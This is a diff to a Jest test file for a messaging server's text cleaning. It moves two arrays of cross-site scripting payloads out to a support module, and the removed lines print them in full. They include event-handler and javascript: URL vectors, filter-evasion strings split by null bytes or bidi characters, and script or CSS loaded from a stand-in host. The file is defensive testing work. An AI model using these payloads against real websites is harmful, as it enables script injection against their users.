@@ -1,5 +1,6 @@
 import { describe, expect, test } from '@jest/globals';
 import { activeMarkup } from '../support/active-markup.js';
+import { ATTACKS, HIDDEN_ATTACKS } from '../support/hostile-texts.js';
 import { describeServer } from '../support/suite.js';
 import { unique } from '../support/unique.js';
 import { dataOf } from '../support/ws-client.js';
@@ -34,53 +35,6 @@ const CLEANED: [what: string, sent: string, kept: string][] = [
   ['outer white space is trimmed', ' \n\t hello \u00a0\n', 'hello'],
   ['white space behind removed controls is trimmed, too', '\u0000 hello \u0000', 'hello'],
   ['inner white space stays', 'a  b \n c', 'a  b \n c'],
-];
-
-const ATTACKS = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<img src=x onerror=alert(1)>',
-  '<img/src="x"/onerror=alert(1)>',
-  '<img src="x"onerror="alert(1)">',
-  '<img\nsrc=x\nonerror\n=\nalert(1)\n>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<a href="javascript:alert(1)">click</a>',
-  '<a href=" &#1;java&#10;script:alert(1)">click</a>',
-  '<a href="JaVaScRiPt&colon;alert(1)">click</a>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<body onload=alert(1)><div onclick=alert(1)>x</div>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<form action="javascript:alert(1)"><button>x</button></form>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<object data="javascript:alert(1)"></object>',
-  '<style>@import "//evil.example/x.css";</style>',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<<img src=x onerror=alert(1)>',
-  '<img src=x onerror=alert(1) <b>',
-  '"><img src=x onerror=alert(1)>',
-  '</title></textarea></style><img src=x onerror=alert(1)>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<?xml ?><img src=x onerror=alert(1)>',
-  '<custom-element onclick=alert(1)>x</custom-element>',
-  '<x/onpointerenter=alert(1)>x',
-  '<video><source onerror=alert(1)></video>',
-];
-
-/** Harmless as it stands: but what cleaning takes away must not put together what it let through. */
-const HIDDEN_ATTACKS = [
-  '<img src=x onerror=alert(1)//',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<\u0000script>alert(1)</script>',
-  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
-  '<img src=x on\u202eerror=alert(1)>',
-  '<\u202eimg src=x onerror=alert(1)>',
-  '<\u0001\u202eimg src=x onerror=alert(1)>',
-  '<a href="java\u0000script:alert(1)">x</a>',
-  '<\ud800img src=x onerror=alert(1)>',
 ];
 
 describeServer('The text of messages', {}, (server) => {
